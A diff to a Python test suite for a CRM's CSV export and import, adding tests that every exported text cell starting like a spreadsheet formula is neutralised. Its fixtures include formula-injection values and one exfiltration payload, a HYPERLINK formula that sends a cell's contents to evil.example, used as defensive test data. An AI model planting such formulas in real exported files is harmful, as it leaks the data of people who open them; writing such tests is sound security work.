@@ -1,5 +1,6 @@
 """Export → import into an empty book → export gives the same file, for every record type."""
 
+import csv
 import io
 from datetime import date, datetime
 from decimal import Decimal
@@ -15,6 +16,7 @@ from crm.imports.services import records_import
 from crm.models import (
     Client,
     ClientOwnership,
+    Contact,
     DealStage,
     DealStageChange,
     Interaction,
@@ -53,7 +55,9 @@ def at(*args) -> datetime:
 def book(alice, bob, admin_user):
     """A book touching every record type, made through the services as people would."""
     partner = services.client_create(
-        name="Cobalt Partners",
+        # Text a spreadsheet would run as a formula, in every kind of text cell: names that
+        # other files refer to, free text, phones, comments (OWASP CSV injection).
+        name="=Cobalt Partners",
         relationship_type=RelationshipType.PARTNER,
         owner=alice,
         relationship_started_on=date(2023, 1, 2),
@@ -65,20 +69,26 @@ def book(alice, bob, admin_user):
         owner=alice,
         relationship_started_on=date(2023, 4, 1),
         sourced_by_partner=partner,
-        notes="Two lines\nof notes",
+        notes="\tTwo lines\nof notes",
     )
     services.client_reassign(client=acme, new_owner=bob, at=at(2024, 7, 1, 9), by=admin_user)
     services.client_churn(client=partner, on=date(2024, 9, 30), reason="Budget cut")
     services.client_reactivate(client=partner, on=date(2025, 1, 6))
-    dana = ContactFactory(client=acme, name="Dana Reyes", email="dana@acme.example")
-    sam = ContactFactory(client=acme, name="Sam Ode", email="")
+    dana = ContactFactory(
+        client=acme,
+        name="Dana Reyes",
+        email="dana@acme.example",
+        phone="+44 20 7946 0000",
+        role="-Head of Ops",
+    )
+    sam = ContactFactory(client=acme, name="@Sam Ode", email="", role="'Tis the role")
     services.contact_opt_out(contact=sam)
     message = services.interaction_log(
         client=acme,
         logged_by=alice,
         kind=Interaction.Kind.EMAIL,
         occurred_at=at(2024, 6, 3, 10, 15, 30, 123456),
-        topic="Renewal",
+        topic="+Renewal",
         contacts=[dana, sam],
     )
     services.interaction_log(
@@ -138,18 +148,18 @@ def book(alice, bob, admin_user):
         client=acme, name="Roll-out", due_on=date(2024, 9, 30), started_on=date(2024, 8, 1)
     )
     services.project_complete(project=project, at=at(2024, 9, 20, 12))
-    goal = services.shared_goal_create(client=acme, title="Cut claims", due_on=date(2024, 12, 31))
+    goal = services.shared_goal_create(client=acme, title="-Cut claims", due_on=date(2024, 12, 31))
     services.shared_goal_review(goal=goal, on=date(2024, 6, 30), note="On track")
     services.shared_goal_review(goal=goal, on=date(2024, 9, 30))
     services.shared_goal_assess(goal=goal, met=True, on=date(2025, 1, 10))
     services.shared_goal_create(client=acme, title="Open a second site", due_on=date(2025, 6, 30))
     item = services.feedback_item_record(
-        client=acme, summary="Weekly report", received_on=date(2024, 2, 14)
+        client=acme, summary="@Weekly report", received_on=date(2024, 2, 14)
     )
     services.feedback_item_close(item=item, outcome="implemented", on=date(2024, 4, 1))
     services.feedback_item_record(client=acme, summary="Dark mode", received_on=date(2024, 5, 1))
     services.partner_referral_record(
-        partner=partner, lead_name="Northwind", received_on=date(2024, 2, 3), referred_client=acme
+        partner=partner, lead_name="=Northwind", received_on=date(2024, 2, 3), referred_client=acme
     )
     services.partner_referral_record(
         partner=partner, lead_name="Fabrikam", received_on=date(2024, 3, 3)
@@ -170,12 +180,23 @@ def book(alice, bob, admin_user):
         may_quote=True,
         answered_at=at(2024, 5, 5, 12),
     )
+    # A detractor whose loop was closed by a follow-up: the link survives the round trip.
+    Response.objects.create(
+        client=acme,
+        contact=dana,
+        owner=bob,
+        kind=SurveyKind.NPS,
+        score=3,
+        answered_at=at(2024, 7, 25, 12),
+        follow_up=done,
+    )
     Response.objects.create(
         client=acme,
         owner=bob,
         kind=SurveyKind.CES,
         score=2,
         answered_at=at(2024, 10, 5, 12),
+        comment='=HYPERLINK("http://evil.example/?d="&A2,"Open report")',
         source=Response.Source.IMPORT,
     )
     return acme
@@ -224,12 +245,56 @@ def test_the_reimported_book_credits_every_event_to_the_owner_at_the_time(book, 
         ("Proposal", "Won", at(2024, 5, 1, 9)),
     ]
     assert [m.owner for m in moves] == [alice, alice, bob]
-    assert Response.objects.filter(source=Response.Source.IMPORT).count() == 2
+    assert Response.objects.filter(source=Response.Source.IMPORT).count() == 3
+    closed = Response.objects.get(score=3)
+    assert (closed.follow_up.title, closed.follow_up.done_at) == (
+        "Send the proposal",
+        at(2024, 7, 30, 17),
+    )
 
 
 def test_the_export_command_writes_the_same_file_as_the_service(book, tmp_path):
     target = tmp_path / "interactions.csv"
     call_command("export_csv", "interactions", "--out", str(target), stderr=io.StringIO())
     written = target.read_bytes().decode("utf-8")
-    assert written == export("interactions")
+    # A file is opened in Excel: it starts with the byte-order mark, then the same text.
+    assert written == "\ufeff" + export("interactions")
     assert "2024-06-03T10:15:30.123456+01:00" in written
+
+
+def test_no_text_cell_of_any_export_starts_like_a_formula(book):
+    """What a spreadsheet would run: =, +, -, @, tab or CR first in a cell (OWASP)."""
+    for record_type in IMPORT_ORDER:
+        for line in csv.reader(io.StringIO(export(record_type))):
+            hostile = [cell for cell in line if cell[:1] in ("=", "+", "@", "\t", "\r")]
+            hostile += [cell for cell in line if cell.startswith("-") and not _is_number(cell)]
+            assert hostile == [], record_type
+
+
+def _is_number(text: str) -> bool:
+    try:
+        Decimal(text)
+    except ArithmeticError:
+        return False
+    return True
+
+
+def test_a_comment_with_a_hyperlink_formula_is_exported_as_text(book):
+    exported = export("survey_answers")
+    cells = [cell for line in csv.reader(io.StringIO(exported)) for cell in line]
+    assert '\'=HYPERLINK("http://evil.example/?d="&A2,"Open report")' in cells
+
+
+def test_a_phone_survives_export_import_export_byte_for_byte(book):
+    files = {record_type: export(record_type) for record_type in IMPORT_ORDER[:4]}
+    assert "'+44 20 7946 0000" in files["contacts"]
+    Client.objects.all().delete()
+    for record_type, text in files.items():
+        assert records_import(record_type=record_type, data=text.encode(), by=None).saved
+    assert Contact.objects.get(name="Dana Reyes").phone == "+44 20 7946 0000"
+    assert Contact.objects.get(name="@Sam Ode").role == "'Tis the role"
+    assert export("contacts").encode() == files["contacts"].encode()
+
+
+def test_a_negative_amount_stays_a_number_a_spreadsheet_computes_with(book):
+    assert ",-20.05," in export("revenue")
